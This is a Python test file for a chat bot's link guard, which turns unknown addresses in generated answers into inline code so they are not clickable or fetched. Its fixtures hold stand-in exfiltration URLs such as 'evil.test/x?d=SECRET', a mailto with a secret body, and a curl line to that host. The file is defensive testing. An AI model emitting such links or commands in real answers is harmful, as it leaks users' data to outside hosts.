"""What of an answer stays clickable, and how links are held back while it grows."""

import re
from contextlib import aclosing

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.domain.conversation import Attachment, Author, Conversation, Message, Turn
from bot.domain.reply import Citation, Done, ReplyEvent, ReplyStream, StatusChange, TextDelta
from bot.domain.settings import Settings
from bot.turns.known_links import KnownLinks, is_foreign
from bot.turns.links import LinkGuard, guarded
from tests.doubles.messages import THREAD
from tests.strategies.arrival import growing, piece_lengths

COMMONMARK = MarkdownIt("commonmark")

KNOWN = "https://docs.example.com/page"
FOREIGN = "https://evil.test/x?d=SECRET"
SHOWN = "`evil.test/x?d=SECRET`"


def knowing(*addresses: str, hosts: frozenset[str] = frozenset()) -> KnownLinks:
    known = KnownLinks(hosts)
    for address in addresses:
        known.add(address)
    return known


def shown(text: str, *, watch: bool = True) -> str:
    guard = LinkGuard(knowing(KNOWN), watch)
    return guard.take(text) + guard.rest()


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        (f"see [it]({FOREIGN}).", f"see it ({SHOWN})."),
        (f"![it]({FOREIGN})", f"it ({SHOWN})"),
        (f"![]({FOREIGN})", SHOWN),
        (f"![it]({KNOWN})", "it (`docs.example.com/page`)"),
        (f"[{FOREIGN}]({FOREIGN})", SHOWN),
        (f"[it](<{FOREIGN}>)", f"it ({SHOWN})"),
        (f'[it]({FOREIGN} "title")', f"it ({SHOWN})"),
        (f"<{FOREIGN}>", SHOWN),
        (f"<{FOREIGN}|it>", f"it ({SHOWN})"),
        (f"see {FOREIGN}.", f"see {SHOWN}."),
        (f"({FOREIGN})", f"({SHOWN})"),
        ("www.evil.test/SECRET", "`evil.test/SECRET`"),
        ("HTTPS://evil.test/", "`evil.test/`"),
        ("https://SECRET://", ""),
        (f"``{FOREIGN}``www.a.b", f"``{FOREIGN}`` `a.b`"),
        ("www.a.b `c`", "`a.b` `c`"),
        ("slack://open?x=SECRET", "slack`open?x=SECRET`"),
        ("[mail](mailto:eve@evil.test?body=SECRET)", "mail (`eve@evil.test?body=SECRET`)"),
        ("[it](//evil.test/SECRET)", "it (`evil.test/SECRET`)"),
        ("[it](https&#58;//evil.test)", "it (`https&#58;//evil.test`)"),
        (f"[ref]: {FOREIGN}", f"[ref] {SHOWN}"),
        ("[ref]:\n//evil.test", "[ref] :\n//evil.test"),
        (f"[[it]]({FOREIGN})", f"[[it]] ({SHOWN})"),
        (f"[it]\\({FOREIGN}\\)", f"[it]\\({SHOWN[:-1]}\\`)"),
        ("[it](\n//evil.test)", "[it] (\n//evil.test)"),
        (f"{KNOWN}?d=SECRET", "`docs.example.com/page?d=SECRET`"),
        (f"{KNOWN}|SECRET", f"<{KNOWN}>|SECRET"),
        (f"{KNOWN}。次", f"<{KNOWN}>。次"),
        (f"<{KNOWN}|the {FOREIGN}>", f"[the evil.test/x?d=SECRET]({KNOWN})"),
        (f"a `b\nc` {FOREIGN} `d", f"a `b\nc` {SHOWN} `d"),
        (f"- ```\n{FOREIGN}", f"- ```\n{SHOWN}"),
        (f"  ```\n  x\n{FOREIGN}", f"  ```\n  x\n{SHOWN}"),
        (f"  ```\n  x\nwords\n```\n{FOREIGN}", f"  ```\n  x\nwords\n```\n{SHOWN}"),
        (f"```js `x\n\n```\n{FOREIGN}", f"```js `x\n\n```\n{SHOWN}"),
    ],
)
def test_an_address_that_nobody_knew_is_text(text: str, safe: str) -> None:
    assert shown(text) == safe


@pytest.mark.parametrize(
    "text",
    [
        *(f"[it]({KNOWN})", f"<{KNOWN}>", f"see {KNOWN}.", f"**{KNOWN}**", f"[ref]: {KNOWN}", f"({KNOWN})"),
        *(f"`{FOREIGN}`", f"```sh\ncurl {FOREIGN}\n```\nand", f"~ `` a ` {FOREIGN} `` ~"),
        *("[1] and [2]: it", "a[0] = b", "- [ ] task", "<@U1> <#C1|x> 1 < 2", "http and https: words", "C:\\dir", "!"),
        *("", "\n\n", "key: value", "12:30", "\\[x\\]", "| a | b |\n|---|---|\n| 1 | 2 |"),
    ],
)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert shown(text) == text


def test_an_answer_that_rests_on_nothing_foreign_keeps_its_links_but_no_pictures() -> None:
    assert shown(f"[it]({FOREIGN}) {FOREIGN}", watch=False) == f"[it]({FOREIGN}) {FOREIGN}"
    assert shown(f"![it]({FOREIGN})", watch=False) == f"it ({SHOWN})"


@pytest.mark.parametrize(
    ("address", "is_known"),
    [
        ("https://a.test/p?q=1", True),
        ("https://A.test/p?q=1", True),
        ("https://a.test/p", True),
        ("https://a.test/p?q=2", False),
        ("https://a.test/p#x", False),
        ("https://a.test/", False),
        ("http://a.test/p", False),
        ("https://corp.test/any?x=1", True),
        ("https://wiki.corp.test", True),
        ("https://notcorp.test/", False),
        ("https://corp.test@evil.test/", False),
        ("https://evil.test\\@corp.test/", False),
        ("https://corp.test.evil.test/", False),
        ("javascript://corp.test/", False),
    ],
)
def test_what_is_known(address: str, is_known: bool) -> None:
    assert (address in knowing("https://a.test/p?q=1", hosts=frozenset({"corp.test"}))) is is_known


SCRAPS = st.lists(
    st.sampled_from(
        (
            *(
                "[",
                "]",
                "(",
                ")",
                "![",
                "](",
                "]:",
                "<",
                ">",
                "|",
                "\\",
                "`",
                "```",
                "~~~",
                "\n",
                "\n\n",
                " ",
                "  ",
                "    ",
                "> ",
            ),
            *("- ", "1. ", "a", "it", ".", FOREIGN, KNOWN, "http", "s://", "//evil.test/SECRET", "www.", ":", "漢"),
        )
    ),
    max_size=25,
).map("".join)


@given(SCRAPS, piece_lengths)
def test_however_it_arrives_the_same_is_shown_and_nothing_is_taken_back(text: str, lengths: list[int]) -> None:
    guard, seen, before = LinkGuard(knowing(KNOWN)), "", ""
    for grown in growing(text, lengths):
        seen += guard.take(grown[len(before) :])
        before = grown
    seen += guard.take(text[len(before) :])
    assert seen + guard.rest() == shown(text)


def links_in(markdown: str) -> list[str]:
    """Where everything leads that a reader of CommonMark makes clickable, or fetches."""
    tokens = [token for block in COMMONMARK.parse(markdown) for token in (block.children or ())]
    return [
        str(token.attrs.get("href") or token.attrs["src"]) for token in tokens if token.type in {"link_open", "image"}
    ]


@given(SCRAPS)
def test_no_address_but_a_known_one_is_live_for_a_reader_of_markdown(text: str) -> None:
    live = [address for address in links_in(shown(text)) if "//" in address]
    assert [address for address in live if address != KNOWN] == []


@given(SCRAPS)
def test_no_foreign_address_stands_outside_of_code(text: str) -> None:
    blocks = COMMONMARK.parse(shown(text))
    words = [token.content for block in blocks for token in (block.children or ()) if token.type == "text"]
    assert [each for each in words if re.search(r"[a-zA-Z0-9]://\w", each.replace(KNOWN, ""))] == []


ASKER, OTHER = Author("U1", "ann"), Author("U2", "ben")


def turn(*messages: Message) -> Turn:
    return Turn(Conversation(messages), Settings())


def said(number: int, author: Author, text: str = "", *files: Attachment, from_bot: bool = False) -> Message:
    return Message(str(number), THREAD, author, text, float(number), from_bot, attachments=files)


def test_what_others_bring_in_is_foreign() -> None:
    question = said(3, ASKER)
    assert not is_foreign(turn(said(1, ASKER), said(2, Author("B", "bot"), from_bot=True), question))
    assert is_foreign(turn(said(1, OTHER), question))
    assert is_foreign(turn(said(1, ASKER, "", Attachment("F1", "a.txt", "text/plain", 1)), question))


def test_what_the_bot_showed_in_code_is_not_known_afterwards() -> None:
    known = KnownLinks()
    known.hear([said(1, ASKER, f"`{KNOWN}`, ok"), said(2, ASKER, f"`{FOREIGN}`", from_bot=True)])
    assert KNOWN in known
    assert FOREIGN not in known


async def pieces(*events: ReplyEvent) -> ReplyStream:
    for event in events:
        yield event


async def told(*events: ReplyEvent, watch: bool = True) -> str:
    async with aclosing(guarded(pieces(*events, Done()), LinkGuard(KnownLinks(), watch))) as stream:
        seen = [event async for event in stream]
    assert seen[-1] == Done()
    return "".join(event.text for event in seen if isinstance(event, TextDelta))


async def test_a_source_that_is_named_right_behind_its_link_makes_it_live() -> None:
    link = f"([it]({FOREIGN})) and"
    assert await told(TextDelta(link), Citation(FOREIGN, ""), TextDelta(" on")) == f"{link} on"
    assert await told(TextDelta(link), TextDelta(" on")) == f"(it ({SHOWN})) and on"


async def test_what_strangers_wrote_on_the_web_makes_links_suspect() -> None:
    assert await told(TextDelta(FOREIGN), watch=False) == FOREIGN
    assert await told(StatusChange("searching", foreign=True), TextDelta(FOREIGN), watch=False) == SHOWN
    assert await told(Citation(KNOWN, ""), TextDelta(f"{KNOWN} {FOREIGN}"), watch=False) == f"{KNOWN} {SHOWN}"
